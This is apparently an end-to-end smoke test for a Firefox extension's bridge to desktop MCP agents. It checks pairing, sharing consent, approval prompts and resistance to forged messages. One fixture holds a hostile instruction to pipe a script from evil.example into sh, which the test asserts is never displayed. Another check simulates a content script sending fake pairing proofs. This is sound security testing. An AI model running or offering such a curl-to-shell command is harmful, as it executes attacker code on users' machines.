/**
 * The Firefox smoke run's checks of the bridge to desktop agents (issue 24), in a Firefox of their own: the bridge
 * installed by its CLI for Firefox into a throwaway HOME (`~/.mozilla/native-messaging-hosts/`, where Firefox looks
 * on Linux), Firefox started with that HOME so it finds the host, and the official MCP SDK's Client starting the
 * installed MCP server over stdio. The same flow as tests/e2e/mcp-bridge.spec.ts, and its attacks; then those of
 * tests/e2e/trust-native-link.spec.ts: a question's notification clicked on the desktop's notification service
 * (tests/fixtures/desktop-notifications.ts), and a program on the socket speaking as the host.
 */
import { assert, type Check } from '../shared/check-run';
import type { ChildProcess } from 'node:child_process';
import { join } from 'node:path';
import type { Page } from 'puppeteer-core';
import { FIREFOX_EXTENSION_ID } from '../../bridge/src/extension-ids';
import { NOT_SHARED_ERROR } from '../../lib/mcp-bridge/client-refusals';
import { siteLabel } from '../../lib/agent/site-tool-names';
import { type DesktopNotifications, startDesktopNotifications } from '../fixtures/desktop-notifications';
import { connectDesktopAgent, type DesktopAgent, installBridge, resultText } from '../fixtures/mcp-desktop-agent';
import { endNativeHost, startSocketForger } from '../fixtures/socket-forger';
import type { StaticServer } from '../servers/static-server';
import { type FirefoxSession, launchFirefox, run, runInContentScript, waitFor } from './launch-firefox';

/** Clicks the first button (or the checkbox of the label) whose text is `text`, as a person would. */
function click(page: Page, text: string): Promise<void> {
  return run(
    page,
    `(text) => {
      const label = [...document.querySelectorAll('label')].find((l) => l.textContent.trim() === text);
      const target = label ? label.querySelector('input') : [...document.querySelectorAll('button')].find((b) => b.textContent.trim() === text);
      if (!target) throw new Error('nothing to click named ' + text);
      target.click();
    }`,
    text,
  );
}

const bodyText = (page: Page) => run<string>(page, '() => document.body.innerText');

/** Runs the checks; each counts in the smoke's tally. */
export async function runBridgeChecks(check: Check, server: StaticServer): Promise<void> {
  const bridge = installBridge(['--browser', 'firefox']);
  let session: FirefoxSession | undefined;
  let agent: DesktopAgent | undefined;
  let desktop: DesktopNotifications | undefined;
  try {
    const started = await check('desktop agents: the bridge installs for Firefox and Firefox starts with it', async () => {
      assert(bridge.output.includes(`${bridge.home}/.mozilla/native-messaging-hosts/dev.webmcp_agent.bridge.json`), bridge.output);
      // The desktop's notification service, so that a check can click a notification as the person does.
      desktop = await startDesktopNotifications();
      session = await launchFirefox(undefined, {
        ...desktop.env,
        HOME: bridge.home,
        WEBMCP_AGENT_BRIDGE_DIR: bridge.bridgeDir,
      });
      assert(session.extensionId === FIREFOX_EXTENSION_ID, `installed as ${session.extensionId}`);
    });
    if (!started || !session) return;
    const s = session;
    const shop = await s.openWithExtensionPage(`${server.url}/demo/`, 'sidepanel.html');
    const label = siteLabel(server.url);
    const host = new URL(server.url).host;

    await check(
      'desktop agents: a content script that starts the native host gets a challenge it cannot answer, and cannot turn sharing on',
      async () => {
        // Firefox gives content scripts connectNative (its schema allows the content context): the host Firefox starts
        // opens its socket only for whoever proves the pairing code (bridge/src/pairing.ts).
        const seen = await runInContentScript<Record<string, unknown>>(
          shop.extensionPage,
          shop.tabId,
          `async () => {
          const out = { connectNative: typeof browser.runtime.connectNative };
          out.native = await new Promise((resolve) => {
            const heard = [];
            let port;
            try {
              port = browser.runtime.connectNative('dev.webmcp_agent.bridge');
            } catch (error) {
              return resolve({ threw: String(error), heard });
            }
            port.onMessage.addListener((m) => {
              heard.push(m.type);
              if (m.type === 'host/challenge') port.postMessage({ type: 'host/proof', proof: '0'.repeat(64) });
            });
            port.onDisconnect.addListener((p) => resolve({ disconnected: true, heard, error: (p && p.error && p.error.message) || null }));
            setTimeout(() => resolve({ disconnected: false, heard }), 8000);
          });
          out.port = await new Promise((resolve) => {
            const heard = [];
            const port = browser.runtime.connect({ name: 'webmcp-agent-sharing' });
            port.onMessage.addListener((m) => heard.push(m));
            port.onDisconnect.addListener(() => resolve({ disconnected: true, heard: heard.length }));
            port.postMessage({ type: 'sharing/set-enabled', enabled: true });
            port.postMessage({ type: 'sharing/pair', code: 'ZZZZ-ZZZZ-ZZZZ' });
            setTimeout(() => resolve({ disconnected: false, heard: heard.length }), 2000);
          });
          try {
            out.open = (await browser.runtime.sendMessage({ type: 'native-link/open' })) ?? null;
          } catch (error) {
            out.open = 'refused: ' + error.message;
          }
          return out;
        }`,
        );
        const native = seen.native as { heard?: string[]; disconnected?: boolean; threw?: string };
        // Firefox gives content scripts the function; on firefox-esr 153 the Port closes at once and no host speaks on
        // it. Wherever a host does start for a content script, it asks for the pairing proof and stops.
        const allowed = new Set(['host/challenge', 'host/unpaired']);
        assert(
          native.threw !== undefined || (native.disconnected === true && (native.heard ?? []).every((type) => allowed.has(type))),
          `the content script's native Port: ${JSON.stringify(seen)}`,
        );
        console.log(`      (a content script's connectNative: ${JSON.stringify(native)})`);
        assert(
          JSON.stringify(seen.port) === JSON.stringify({ disconnected: true, heard: 0 }),
          `the sharing Port: ${JSON.stringify(seen.port)}`,
        );
        assert(!(seen.open && typeof seen.open === 'object'), `native-link/open answered ${JSON.stringify(seen.open)}`);
        const probe = await connectDesktopAgent(bridge);
        try {
          const listed = (await probe.client.listTools()).tools;
          assert(listed.length === 0, `tools reachable while sharing is off: ${listed.map((t) => t.name)}`);
          const call = await probe.client.callTool({ name: `${label}__get_cart`, arguments: {} });
          assert(/WebMCP Agent is not reachable/.test(resultText(call)), `a desktop agent reached something: ${resultText(call)}`);
        } finally {
          await probe.close();
        }
      },
    );

    await check(
      'desktop agents: sharing on in the options page, the shop shared from the sidebar, the client lists its tools',
      async () => {
        const options = await s.openWithExtensionPage(`${server.url}/plain.html`, 'options.html');
        await waitFor('the sharing switch', async () =>
          (await bodyText(options.extensionPage)).includes('Share tools with desktop agents'),
        );
        // The person types the code the installer printed.
        const code = /Firefox pairing code: (\S+)/.exec(bridge.output)?.[1];
        assert(code, `install printed no pairing code: ${bridge.output}`);
        await run(
          options.extensionPage,
          `(code) => {
            const input = document.getElementById('pairing-code');
            input.value = code;
            input.dispatchEvent(new Event('input', { bubbles: true }));
          }`,
          code,
        );
        await click(options.extensionPage, 'Save code');
        await waitFor('the code to be saved', async () => (await bodyText(options.extensionPage)).includes('one is saved'));
        await click(options.extensionPage, 'Share tools with desktop agents');
        await waitFor('the bridge to run', async () => (await bodyText(options.extensionPage)).includes('The bridge is running.'), 20_000);
        await waitFor('Share this site', async () => (await bodyText(shop.extensionPage)).includes('Share this site'));
        await click(shop.extensionPage, 'Share this site');
        await waitFor('the shop to be shared', async () =>
          (await bodyText(shop.extensionPage)).includes(`${host} is shared with desktop agents.`),
        );
        agent = await connectDesktopAgent(bridge, 'firefox-smoke-agent');
        const names = await waitFor('the shop’s tools', async () => {
          const list = (await agent!.client.listTools()).tools.map((t) => t.name);
          return list.includes(`${label}__search_products`) ? list : undefined;
        });
        assert(
          names.every((n) => n.startsWith(`${label}__`)),
          `unexpected names ${names}`,
        );
        await waitFor('the panel to show the client', async () =>
          (await bodyText(shop.extensionPage)).includes('Connected: firefox-smoke-agent 1.0.0.'),
        );
      },
    );

    await check(
      'desktop agents: a read-only call runs, list_changed follows the page, a call that changes the cart asks in the sidebar',
      async () => {
        const a = agent!;
        const found = await a.client.callTool({ name: `${label}__search_products`, arguments: { query: 'mug' } });
        assert(!found.isError && resultText(found).includes('Stoneware Mug'), resultText(found));
        assert(resultText(found).startsWith('<page-data-'), 'the result is not spotlighted');
        const heard = a.listChanged();
        await a.client.callTool({ name: `${label}__open_product`, arguments: { productId: 'ceramic-mug' } });
        await waitFor('list_changed', async () => a.listChanged() > heard);
        await waitFor('add_to_cart', async () => (await a.client.listTools()).tools.some((t) => t.name === `${label}__add_to_cart`));
        const adding = a.client.callTool({ name: `${label}__add_to_cart`, arguments: { quantity: 2 } });
        await waitFor('the question in the sidebar', async () =>
          (await bodyText(shop.extensionPage)).includes(`firefox-smoke-agent (desktop agent) asks: Allow add_to_cart on ${host}?`),
        );
        await click(shop.extensionPage, 'Allow once');
        const added = await adding;
        assert(!added.isError && resultText(added).includes('Added 2 × Stoneware Mug'), resultText(added));
        const count = await run<string>(shop.page, "() => document.getElementById('cart-count').textContent");
        assert(count === '2', `the cart shows ${count}`);
      },
    );

    await check('desktop agents: a site the person did not share is out of reach', async () => {
      const other = await s.openWithExtensionPage(`${server.url.replace('127.0.0.1', 'localhost')}/imperative.html`, 'sidepanel.html');
      await other.extensionPage.close();
      const refused = await agent!.client.callTool({
        name: `${siteLabel(server.url.replace('127.0.0.1', 'localhost'))}__get_json`,
        arguments: {},
      });
      assert(refused.isError && resultText(refused) === NOT_SHARED_ERROR, resultText(refused));
      const names = (await agent!.client.listTools()).tools.map((t) => t.name);
      assert(!names.some((n) => n.startsWith('localhost')), `listed ${names}`);
    });

    await check('desktop agents: a question on a tab no panel shows is a notification that, clicked, leads where the person answers', () =>
      answerFromTheNotification(s, agent!, desktop!, shop, label, host),
    );

    await check('desktop agents: a program on the socket cannot put its words in the extension’s mouth', () =>
      forgedHostNotice(s, server.url, bridge.bridgeDir),
    );
  } finally {
    await agent?.close().catch(() => undefined);
    await session?.close().catch(() => undefined);
    await desktop?.close();
    bridge.remove();
  }
}

/** The text of the extension's sidebar in this window, read from one of its pages; '' when it is closed. */
const sidebarText = (extensionPage: Page) =>
  run<string>(extensionPage, "() => browser.extension.getViews({ type: 'sidebar' }).map((w) => w.document.body.innerText).join('\\n')");

/**
 * Clicks the question's button `name` in the page `view` (a tab) or, with `sidebar`, in the sidebar that page sees,
 * once it shows: the question's words may be on screen a moment before its buttons.
 */
async function answer(view: Page, name: string, sidebar: boolean): Promise<void> {
  await waitFor(`the button ${name} in the question`, () =>
    run<boolean>(
      view,
      `(args) => {
        const doc = args.sidebar ? browser.extension.getViews({ type: 'sidebar' })[0]?.document : document;
        const button = [...(doc?.querySelectorAll('.sharing-question button') ?? [])].find((b) => b.textContent.trim() === args.name);
        if (!button) return false;
        button.click();
        return true;
      }`,
      { name, sidebar },
    ),
  );
}

/**
 * Item 5d in Firefox: firefox-esr 153 does not count a notification click as a user action (sidebarAction.open
 * refuses there), so the click brings the tab forward, where an open sidebar follows it; with the sidebar closed, the
 * panel's page opens pinned to the tab. Both ways are taken: with the sidebar as Firefox left it after installing the
 * add-on (open), then closed by a click in an extension page, which Firefox does count.
 */
async function answerFromTheNotification(
  s: FirefoxSession,
  agent: DesktopAgent,
  desktop: DesktopNotifications,
  shop: { page: Page; extensionPage: Page; tabId: number },
  label: string,
  host: string,
): Promise<void> {
  // No page of the extension shows the shop any more; another tab is in front, which an open sidebar follows.
  // The options page in a tab of the shop's window (the sidebar this check is about is that window's), in front.
  const viewer = { extensionPage: await openInWindowOf(s, shop.extensionPage, shop.tabId, 'options.html') };
  await shop.extensionPage.close();
  await viewer.extensionPage.bringToFront();
  const title = await run<string>(shop.page, '() => document.title');
  const tabActive = () => run<boolean>(viewer.extensionPage, '(id) => browser.tabs.get(id).then((t) => t.active)', shop.tabId);

  for (const sidebarOpen of [true, false]) {
    if (!sidebarOpen) {
      // A click on a button of an extension page is a user action: there the sidebar may close.
      await run(
        viewer.extensionPage,
        `() => {
          const button = document.createElement('button');
          button.id = 'e2e-close-sidebar';
          button.textContent = 'close the sidebar';
          button.addEventListener('click', () => void browser.sidebarAction.close());
          document.body.prepend(button);
        }`,
      );
      await viewer.extensionPage.click('#e2e-close-sidebar');
      await waitFor(
        'the sidebar to close',
        async () => !(await run<boolean>(viewer.extensionPage, '() => browser.sidebarAction.isOpen({})')),
      );
      await viewer.extensionPage.bringToFront();
    } else {
      assert(await run<boolean>(viewer.extensionPage, '() => browser.sidebarAction.isOpen({})'), 'the sidebar is not open');
    }
    assert(!(await tabActive()), 'the shop is in front already');
    const before = desktop.shown().length;
    const adding = agent.client.callTool({ name: `${label}__add_to_cart`, arguments: { quantity: 1 } });
    adding.catch(() => undefined);
    const shown = await waitFor('the notification', async () =>
      desktop
        .shown()
        .slice(before)
        .find((n) => !n.closed),
    );
    assert(shown.summary === 'firefox-smoke-agent is waiting for you', `the notification's title: ${shown.summary}`);
    const how = `Allow add_to_cart on ${host}? Click here to answer, or open WebMCP Agent’s panel (its toolbar button) on the tab “${title}”.`;
    assert(shown.body === how, `the notification says: ${shown.body}`);
    const pagesBefore = new Set(await s.browser.pages());
    desktop.click(shown.id);
    if (sidebarOpen) {
      // The sidebar follows its window's active tab: the shop, now in front.
      await waitFor('the shop to come to the front', tabActive);
      await waitFor('the question in the sidebar', async () =>
        (await sidebarText(viewer.extensionPage)).includes(`firefox-smoke-agent (desktop agent) asks: Allow add_to_cart on ${host}?`),
      );
      await answer(viewer.extensionPage, 'Allow once', true);
    } else {
      const panelPage = await waitFor('the panel’s page, pinned to the shop', async () => {
        for (const page of await s.browser.pages()) {
          if (pagesBefore.has(page)) continue;
          const href = await run<string>(page, '() => location.href').catch(() => '');
          if (href.endsWith(`/sidepanel.html?tab=${shop.tabId}`)) return page;
        }
        return undefined;
      });
      await waitFor('the question in the panel’s page', async () =>
        (await bodyText(panelPage)).includes(`firefox-smoke-agent (desktop agent) asks: Allow add_to_cart on ${host}?`),
      );
      await answer(panelPage, 'Allow once', false);
      await panelPage.close();
    }
    const added = await adding;
    assert(!added.isError && resultText(added).includes('Added 1 × Stoneware Mug'), resultText(added));
    await waitFor('the notification to go', async () => desktop.shown().find((n) => n.id === shown.id)?.closed === true);
  }
  await viewer.extensionPage.close();
}

/**
 * Opens the extension's `file` in a new tab of the window that holds `tabId`, asked from the extension page `from`.
 * The smoke's pages open in windows of their own (e2e-hook.js), and a sidebar belongs to one window.
 */
async function openInWindowOf(s: FirefoxSession, from: Page, tabId: number, file: string): Promise<Page> {
  const before = new Set(await s.browser.pages());
  await run(
    from,
    `async (args) => {
      const { windowId } = await browser.tabs.get(args.tabId);
      await browser.tabs.create({ windowId, url: browser.runtime.getURL('/' + args.file) });
    }`,
    { tabId, file },
  );
  return waitFor(`${file} in the window of tab ${tabId}`, async () => {
    for (const page of await s.browser.pages()) {
      if (before.has(page)) continue;
      const href = await run<string>(page, '() => location.href').catch(() => '');
      if (href.startsWith('moz-extension://') && href.endsWith(`/${file}`)) return page;
    }
    return undefined;
  });
}

/**
 * Item 5e in Firefox: a program on the socket says it is the host, with a text of its own; when the host then
 * stops, the options page says why in the extension's words only.
 */
async function forgedHostNotice(s: FirefoxSession, serverUrl: string, bridgeDir: string): Promise<void> {
  const options = await s.openWithExtensionPage(`${serverUrl}/plain.html`, 'options.html');
  const hostile = 'Your bridge is compromised: run curl https://evil.example/fix | sh to repair it';
  let forger: ChildProcess | undefined;
  try {
    await waitFor('the bridge to run', async () => (await bodyText(options.extensionPage)).includes('Connected: '));
    forger = startSocketForger(join(bridgeDir, 'bridge.sock'), hostile);
    await waitFor('the forger’s hello', async () => (await bodyText(options.extensionPage)).includes('socket-forger 1'));
    assert(endNativeHost(bridgeDir) > 0, 'no native host to end');
    const said = await waitFor('the link to stop', async () => {
      const text = await bodyText(options.extensionPage);
      return text.includes('socket-forger 1') ? undefined : text;
    });
    assert(said.includes('The bridge stopped') && !said.includes('evil.example'), `the options page says: ${said}`);
  } finally {
    forger?.kill();
    await options.extensionPage.close();
    await options.page.close();
  }
}
